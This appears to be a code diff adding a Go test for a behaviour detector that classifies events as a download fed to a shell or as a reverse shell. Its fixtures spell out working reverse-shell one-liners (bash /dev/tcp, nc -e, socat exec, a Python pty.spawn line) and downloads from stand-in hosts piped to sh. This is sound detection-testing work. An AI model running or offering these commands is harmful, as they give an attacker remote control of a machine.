@@ -344,3 +344,67 @@ func TestHookIntegrity(t *testing.T) {
 		t.Error("isInterpreter")
 	}
 }
+
+// TestShellKinds: a download fed to a shell and a reverse shell are two
+// findings. A reverse shell is a connection that becomes a shell's stdio
+// (its own fds, or a parent's connection that carried no request); a
+// shell with no script started after downloads alone ran what they
+// fetched (stage2_chain: urlopen, then subprocess.run(["sh"], input=...)).
+func TestShellKinds(t *testing.T) {
+	connect := func(pid int, addr string, ms int64) moat.Event {
+		return moat.Event{Source: "kernel", Kind: "connect", Addr: addr, PID: pid, PPID: 1, TimeMS: ms}
+	}
+	sink := func(addr, host, p, detail string) moat.Event {
+		return moat.Event{Source: "network", Kind: "connect", Addr: addr, Name: host, Path: p, Detail: detail}
+	}
+	shell := func(pid, ppid int, detail string, ms int64) moat.Event {
+		return moat.Event{Source: "kernel", Kind: "exec", Path: "/usr/bin/sh", Detail: detail, PID: pid, PPID: ppid, TimeMS: ms}
+	}
+	const fed, reverse = "fed a download to a shell: downloaded ", "reverse shell: "
+	const crit = "critical "
+	cases := []struct {
+		name      string
+		evs       []moat.Event
+		want, not string
+	}{
+		{"urlopen, then sh with the script on stdin", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "get.evil-cdn.example", "/install.sh", "sinkholed tcp http GET host=get.evil-cdn.example"),
+			shell(12, 11, "sh", 3)}, crit + fed + "get.evil-cdn.example/install.sh (GET)", reverse},
+		{"an HTTPS download the sink decrypted", []moat.Event{
+			connect(11, "198.18.0.2:443", 1), sink("198.18.0.2:443", "pastebin.com", "/raw/x", "sinkholed tcp tls sni=pastebin.com decrypted https GET host=pastebin.com"),
+			shell(12, 11, "bash -s", 3)}, crit + fed + "pastebin.com/raw/x (GET)", reverse},
+		{"a connection with no request, shell in the child (pty.spawn's shape)", []moat.Event{
+			connect(11, "203.0.113.9:8888", 1), sink("203.0.113.9:8888", "", "", "sinkholed tcp"),
+			shell(12, 11, "/bin/bash", 3)}, crit + reverse + "connected to 203.0.113.9:8888", fed},
+		{"a download first, then a channel: the channel wins", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
+			connect(11, "203.0.113.9:4444", 2), sink("203.0.113.9:4444", "", "", "sinkholed tcp"),
+			shell(12, 11, "sh", 3)}, crit + reverse + "connected to 203.0.113.9:4444", fed},
+		{"no sink (network none): a connection that failed", []moat.Event{
+			connect(11, "203.0.113.9:4444", 1), shell(12, 11, "sh", 3)}, crit + reverse, fed},
+		{"a download, but the shell's own stdio is a socket", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
+			{Source: "kernel", Kind: "exec", Path: "/usr/bin/sh", Detail: "sh -i", Stdio: "0,1,2", PID: 11, TimeMS: 3}}, crit + reverse + "/usr/bin/sh with fds 0,1,2 on a socket", fed},
+		{"a download, and a script to run: not fed", []moat.Event{
+			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
+			shell(12, 11, "sh -c ls", 3)}, "low ran shell commands", fed},
+		{"bash -i >& /dev/tcp", []moat.Event{shell(4, 1, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 1)}, crit + "opened a reverse shell over /dev/tcp", fed},
+		{"nc -e", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/nc", Detail: "nc -e /bin/sh 203.0.113.9 4444", PID: 4}}, crit + "wired a socket to a shell", fed},
+		{"socat exec", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/socat", Detail: "socat tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr", PID: 4}}, crit + "wired a socket to a shell", fed},
+		{"python's socket, dup2 and pty.spawn in one line", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 4,
+			Detail: `python -c import os,pty,socket;s=socket.socket();s.connect(("203.0.113.9",8888));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`}},
+			crit + "wired a socket to a shell", fed},
+	}
+	for _, c := range cases {
+		var got, not bool
+		var sums []string
+		for _, f := range Analyze(c.evs) {
+			sums = append(sums, string(f.Severity)+" "+f.Summary)
+			got = got || strings.HasPrefix(sums[len(sums)-1], c.want)
+			not = not || strings.Contains(f.Summary, c.not)
+		}
+		if !got || not {
+			t.Errorf("%s: want a finding with %q and none with %q; got %q", c.name, c.want, c.not, sums)
+		}
+	}
+}
